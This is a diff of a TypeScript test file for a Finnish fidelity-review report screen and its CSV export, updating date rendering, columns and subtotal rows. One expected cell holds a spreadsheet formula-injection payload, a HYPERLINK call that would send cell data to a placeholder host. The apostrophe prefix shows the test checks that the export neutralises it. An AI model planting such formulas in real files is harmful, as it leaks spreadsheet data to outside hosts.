@@ -14,6 +14,7 @@ import { listReviewerRatingRecords } from '../../../src/db/reviewer-ratings';
 import { ReportScreen } from '../../../src/features/report/report-screen';
 import { renderScreen } from '../../render';
 import { reviewDraft, serviceDraft } from '../../fixtures/records';
+import { demoDayFi } from '../../demo-dates';
 
 const NOW = new Date('2025-03-10T09:00:00.000Z');
 
@@ -79,7 +80,7 @@ describe('the fidelity report', () => {
 
     // The evidence figures stored when the review was finalised, beside the score given.
     const evidence = within(screen.getByTestId('report-evidence'));
-    expect(evidence.getByText(/ajalta 11\.10\.2021 – 10\.10\.2022/)).toBeInTheDocument();
+    expect(evidence.getByText(`ajalta ${demoDayFi('2021-10-11', NOW)} – ${demoDayFi('2022-10-10', NOW)}`, { exact: false })).toBeInTheDocument();
     const rows = evidence.getAllByRole('row').slice(1);
     expect(rows).toHaveLength(6);
     expect(rows[0]).toHaveTextContent('H1 AsiakasmääräAsiakasmäärä 18,3 asiakasta henkilötyövuotta kohdenPerustuu 88 asiakkaaseen, jotka olivat asiakkaina jakson viimeisenä päivänä55');
@@ -138,8 +139,10 @@ describe('the CSV export', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
     const rows = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
-    expect(rows[0]).toEqual(['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Pisteet: Aino', 'Pisteet: Bea', 'Yhteisarvio', 'Havainnot']);
-    expect(rows).toHaveLength(26);
-    expect(rows[2]).toEqual(['staffing-2', 'Henkilöstö', '2', 'Keskittyminen työhönvalmennukseen', '2', '4', '3', `'=HYPERLINK("http://x?d="&A1)`]);
+    expect(rows[0]).toEqual(['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Pisteet: Aino', 'Pisteet: Bea', 'Yhteisarvio', 'Havainnot', 'Tietolähteet', 'Suositukset']);
+    // 25 items, then the three section subtotals and the total (docs/csv-columns.md).
+    expect(rows).toHaveLength(30);
+    expect(rows[2]?.slice(0, 8)).toEqual(['staffing-2', 'Henkilöstö', '2', 'Keskittyminen työhönvalmennukseen', '2', '4', '3', `'=HYPERLINK("http://x?d="&A1)`]);
+    expect(rows.slice(26).map((row) => row[0])).toEqual(['section:staffing', 'section:organization', 'section:services', 'total']);
   });
 });
